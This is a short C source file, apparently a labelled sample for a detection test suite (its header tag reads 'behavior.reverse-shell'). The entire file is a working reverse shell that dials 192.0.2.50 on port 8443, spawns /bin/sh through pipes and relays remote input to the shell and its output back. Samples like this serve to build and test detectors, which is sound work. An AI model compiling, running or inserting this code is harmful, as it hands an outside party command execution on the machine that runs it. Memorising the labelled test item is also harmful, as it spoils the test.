// blind-expect: behavior.reverse-shell
// Connects to a remote host and relays data between that connection and a /bin/sh child through pipes.
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <poll.h>
#include <signal.h>
#include <sys/wait.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

static int dial(const char *ip, unsigned short port)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) {
        close(s);
        return -1;
    }
    return s;
}

static pid_t spawn_shell(int *to_child, int *from_child)
{
    int in[2], out[2];
    if (pipe(in) < 0 || pipe(out) < 0)
        return -1;
    pid_t pid = fork();
    if (pid == 0) {
        dup2(in[0], 0);
        dup2(out[1], 1);
        dup2(out[1], 2);
        close(in[1]);
        close(out[0]);
        execl("/bin/sh", "sh", (char *)NULL);
        _exit(127);
    }
    close(in[0]);
    close(out[1]);
    *to_child = in[1];
    *from_child = out[0];
    return pid;
}

int main(void)
{
    int s = dial("192.0.2.50", 8443);
    if (s < 0)
        return 1;
    int to_sh, from_sh;
    pid_t child = spawn_shell(&to_sh, &from_sh);
    if (child < 0)
        return 1;

    struct pollfd fds[2] = {{s, POLLIN, 0}, {from_sh, POLLIN, 0}};
    char buf[4096];
    for (;;) {
        if (poll(fds, 2, -1) < 0)
            break;
        if (fds[0].revents & (POLLIN | POLLHUP)) {
            ssize_t n = recv(s, buf, sizeof buf, 0);
            if (n <= 0 || write(to_sh, buf, (size_t)n) < 0)
                break;
        }
        if (fds[1].revents & (POLLIN | POLLHUP)) {
            ssize_t n = read(from_sh, buf, sizeof buf);
            if (n <= 0 || send(s, buf, (size_t)n, 0) < 0)
                break;
        }
    }
    kill(child, SIGTERM);
    waitpid(child, NULL, 0);
    close(s);
    return 0;
}
